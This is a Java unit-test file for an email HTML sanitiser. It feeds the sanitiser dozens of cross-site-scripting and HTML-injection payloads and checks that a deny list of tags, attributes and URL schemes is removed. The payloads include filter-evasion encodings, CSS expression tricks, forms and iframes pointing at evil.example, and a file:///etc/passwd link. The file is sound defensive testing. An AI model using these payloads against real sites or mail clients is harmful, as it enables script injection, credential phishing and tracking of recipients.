package com.collaborationcenter.body;

import static org.assertj.core.api.Assertions.assertThat;

import com.collaborationcenter.body.BodySanitiser.SafeBody;
import com.collaborationcenter.mail.Body;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BodySanitiserTest {
  /** None of these may stand in what is shown, whatever came, with or without remote images. */
  private static final List<String> NEVER =
      List.of(
          "<script",
          "<svg",
          "<style",
          "<form",
          "<input",
          "<button",
          "<textarea",
          "<select",
          "<iframe",
          "<frame",
          "<object",
          "<embed",
          "<applet",
          "<meta",
          "<base",
          "<link",
          "<math",
          "<video",
          "<audio",
          "<template",
          "<!--",
          "<title",
          "javascript:",
          "vbscript:",
          "data:",
          "file:",
          "onerror",
          "onload",
          "onclick",
          "onmouseover",
          "url(",
          "@import",
          "expression",
          "behavior",
          "-moz-binding",
          "srcset",
          "formaction",
          "position",
          "z-index",
          "background=",
          "cid:",
          " id=",
          " name=",
          " class=",
          "target=");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>evil()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>evil()</script>",
        "<script><!-- evil() --></script>",
        "<<script>evil()//<</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>",
        "<p onclick=\"evil()\">x</p>",
        "<p ONCLICK = evil()>x</p>",
        "<p/onmouseover=evil()>x</p>",
        "<img src=x onerror=evil()>",
        "<img src=\"http://i.example/a.png\" onload=\"evil()\">",
        "<body onload=evil()>x</body>",
        "<a href=\"javascript:evil()\">x</a>",
        "<a href=\" &#14; javascript:evil()\">x</a>",
        "<a href=\"java&#x0A;script:evil()\">x</a>",
        "<a href=\"jav&#x09;ascript:evil()\">x</a>",
        "<a href=\"JaVaScRiPt:evil()\">x</a>",
        "<a href=\"vbscript:evil()\">x</a>",
        "<a href=\"data:text/html,<script>evil()</script>\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<img src=\"javascript:evil()\">",
        "<img src=\"cid:part1@example\">",
        "<svg onload=evil()><script>evil()</script></svg>",
        "<svg><a xlink:href=\"javascript:evil()\"><text>x</text></a></svg>",
        "<math><mtext><img src=x onerror=evil()></mtext></math>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<style>p { background: url(http://evil.example/x.png) }</style>",
        "<p style=\"background-image: url(http://evil.example/x.png)\">x</p>",
        "<p style=\"background: red url('http://evil.example/x.png')\">x</p>",
        "<p style=\"background:\\75rl(http://evil.example/x)\">x</p>",
        "<p style=\"list-style-image:url(http://evil.example/x)\">x</p>",
        "<p style=\"width: expression(evil())\">x</p>",
        "<p style=\"width: exp/**/ression(evil())\">x</p>",
        "<p style=\"behavior: url(x.htc)\">x</p>",
        "<p style=\"-moz-binding: url(x.xml#y)\">x</p>",
        "<p style=\"@import 'x'\">x</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</div>",
        "<form action=\"https://evil.example\"><input name=p><button>x</button></form>",
        "<button formaction=\"javascript:evil()\">x</button>",
        "<textarea>x</textarea><select><option>x</option></select>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>evil()</script>\"></iframe>",
        "<frameset><frame src=x></frameset>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\"><applet code=x></applet>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<video src=x><source onerror=evil()></video><audio src=x></audio>",
        "<template><script>evil()</script></template>",
        "<!-- <script>evil()</script> -->",
        "<!--[if mso]><script>evil()</script><![endif]-->",
        "<title><script>evil()</script></title>",
        "<table background=\"http://evil.example/x.png\"><tr><td background=x>x</td></tr></table>",
        "<img srcset=\"http://evil.example/x.png 2x\">",
        "<p id=a name=b class=c>x</p><a name=top target=_top href=\"https://x.example\">x</a>",
        "<p title='\"><script>evil()</script>'>x</p>",
        "<a href='https://x.example/\"onmouseover=\"evil()'>x</a>",
        "<b <script>evil()</script>>x",
        "<p style='color:red\" onclick=\"evil()'>x</p>",
        "<p\u0000 onclick=evil()>x</p>",
      })
  void takesOutWhatCouldActOrReachOut(String hostile) {
    for (boolean images : new boolean[] {false, true}) {
      String html = outsideText(sanitise(hostile, images).html());
      for (String never : NEVER) {
        assertThat(html).doesNotContain(never);
      }
    }
  }

  /** Attribute values and tags; text is harmless, and so are quoted characters in a value. */
  private static String outsideText(String html) {
    return html.replaceAll("&lt;[^<]*", "")
        .replaceAll(" (title|href)=\"[^\"]*&[^\"]*\"", "")
        .toLowerCase(Locale.ROOT);
  }

  @Test
  void keepsTheLookOfAnOrdinaryMail() {
    String mail =
        "<html><head><style>p {color: red}</style></head><body>"
            + "<div style=\"font-family:Calibri,sans-serif;font-size:11pt;color:#1F497D\">"
            + "<p style=\"margin:0cm\">Dear <b>Anna</b>,</p>"
            + "<table border=\"1\" cellpadding=\"4\" width=\"100%\">"
            + "<tr><td bgcolor=\"#ffcc00\" colspan=\"2\" align=\"center\">Total</td></tr></table>"
            + "<ul><li>one</li></ul><blockquote>quoted</blockquote>"
            + "<a href=\"https://client.example/a?b=1&amp;c=2\">link</a>"
            + "<a href=\"mailto:paul@client.example\">mail</a>"
            + "<font color=\"red\" face=\"Arial\" size=\"2\">old</font></div></body></html>";

    String html = sanitise(mail, false).html();

    assertThat(html)
        .contains("font-family:", "font-size:11pt", "color:#1f497d", "margin:0")
        .contains("<b>Anna</b>", "<li>one</li>", "<blockquote>quoted</blockquote>")
        .contains("border=\"1\"", "cellpadding=\"4\"", "width=\"100%\"", "colspan=\"2\"")
        .contains("bgcolor=\"#ffcc00\"", "align=\"center\"")
        .contains("href=\"https://client.example/a?b&#61;1&amp;c&#61;2\"")
        .contains("rel=\"noopener noreferrer")
        .contains("href=\"mailto:paul&#64;client.example\"")
        .contains("<font color=\"red\" face=\"Arial\" size=\"2\">old</font>")
        .doesNotContain("p {color");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=\"http://i.example/a.png\">",
        "<img src=\"HTTPS://i.example/a.png\">",
        "<img src=\" https://i.example/a.png \">",
        "<IMG SRC=https://i.example/a.png>",
        "<img src=\"//i.example/a.png\">",
      })
  void leavesARemoteImageOutAndCountsIt(String image) {
    SafeBody safe = sanitise("<p>a" + image + "b</p>", false);

    assertThat(safe.html()).isEqualTo("<p>ab</p>");
    assertThat(safe.blockedImages()).isEqualTo(1);
  }

  @Test
  void showsRemoteImagesWhenTheyAreAskedFor() {
    SafeBody safe =
        sanitise(
            "<img src=\"https://i.example/a.png\" alt=\"logo\" width=\"10\" height=\"20\">", true);

    assertThat(safe.html())
        .contains("<img", "src=\"https://i.example/a.png\"", "alt=\"logo\"", "width=\"10\"");
    assertThat(safe.blockedImages()).isZero();
    assertThat(sanitise("<img src=\"//i.example/a.png\">", true).html())
        .contains("src=\"//i.example/a.png\"");
  }

  @Test
  void countsEveryBlockedImageAndOnlyThose() {
    SafeBody safe =
        sanitise(
            "<img src=\"http://a.example/1\"><img src=\"https://a.example/2\">"
                + "<img src=\"cid:x\"><img src=\"data:image/png;base64,AA==\"><img>"
                + "<img src=\"relative.png\">",
            false);

    assertThat(safe.blockedImages()).isEqualTo(2);
    assertThat(safe.html()).isEmpty();
  }

  @Test
  void neverShowsAnImageThatIsNotRemote() {
    assertThat(sanitise("<img src=\"cid:x\"><img src=\"a.png\"><img src=\"/a.png\">", true).html())
        .isEmpty();
  }

  @Test
  void keepsTheImagesThatCameWithTheMailAndNoOthers() {
    SafeBody safe =
        BodySanitiser.sanitise(
            new Body(
                Body.Type.HTML,
                "<img src=\"cid:Logo%40firm\" onerror=\"evil()\"><img src=\"CID:b\">"
                    + "<img src=\"cid:unknown\"><a href=\"cid:b\">x</a>"
                    + "<img src=\"cid:logo@firm&quot; onload=&quot;evil()\">"),
            false,
            Set.of("logo@firm", "b"));

    assertThat(safe.contentIds()).containsExactlyInAnyOrder("logo@firm", "b");
    assertThat(safe.html())
        .contains("<img src=\"cid:logo%40firm\" />", "<img src=\"cid:b\" />")
        .doesNotContain("unknown", "evil", "href");
    assertThat(safe.blockedImages()).isZero();
  }

  @Test
  void showsPlainTextAsItIs() {
    SafeBody safe =
        BodySanitiser.sanitise(
            new Body(Body.Type.TEXT, "1 < 2 & <script>evil()</script>\n  indented"), true);

    assertThat(safe.html())
        .isEqualTo("<pre>1 &lt; 2 &amp; &lt;script&gt;evil()&lt;/script&gt;\n  indented</pre>");
  }

  @Test
  void cutsABodyThatIsTooLongAndSaysSo() {
    assertThat(sanitise("x".repeat(BodySanitiser.MAX_LENGTH), false).cut()).isFalse();
    SafeBody safe = sanitise("x".repeat(BodySanitiser.MAX_LENGTH + 1), false);
    assertThat(safe.cut()).isTrue();
    assertThat(safe.html()).hasSize(BodySanitiser.MAX_LENGTH);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<div>",
        "<b>",
        "<table><tr><td>",
        "<ul><li>",
        "<a href=x>",
        "<",
        "</p>",
        "&",
        "<p style=\"",
        "<font size=1>"
      })
  void staysWithinBoundsForWhatIsOpenedAndNeverClosed(String piece) {
    SafeBody safe = sanitise(piece.repeat(200_000 / piece.length()), false);

    assertThat(safe.html().length()).isLessThan(5_000_000);
  }

  /**
   * A browser opens formatting anew in each block; a sanitiser that does so may write gigabytes.
   */
  @Test
  void staysWithinBoundsWhenFormattingIsOpenedAnewInEveryBlock() {
    String hostile = "<b><i><u><s><tt><big>".repeat(50) + "<p>x</p>".repeat(20_000);

    SafeBody safe = sanitise(hostile, false);

    assertThat(safe.html().length()).isLessThan(20_000_000);
  }

  @Test
  void neverThrowsWhateverComes() {
    Random random = new Random(20261124);
    String[] pieces = {
      "<",
      ">",
      "\"",
      "'",
      "=",
      "/",
      "<p",
      "<img src=",
      "http://x",
      "style=",
      "url(",
      "<!--",
      "-->",
      "<![CDATA[",
      "]]>",
      "&#x",
      "&amp",
      ";",
      "\u0000",
      "\uD800",
      "é",
      "<table>",
      "</td>",
      "script",
      " "
    };
    for (int i = 0; i < 3_000; i++) {
      StringBuilder html = new StringBuilder();
      for (int j = random.nextInt(40); j >= 0; j--) {
        html.append(pieces[random.nextInt(pieces.length)]);
      }
      assertThat(sanitise(html.toString(), random.nextBoolean()).html().toLowerCase(Locale.ROOT))
          .doesNotContain("<script", "<!--", "<style");
    }
  }

  private static SafeBody sanitise(String html, boolean withRemoteImages) {
    return BodySanitiser.sanitise(new Body(Body.Type.HTML, html), withRemoteImages);
  }
}
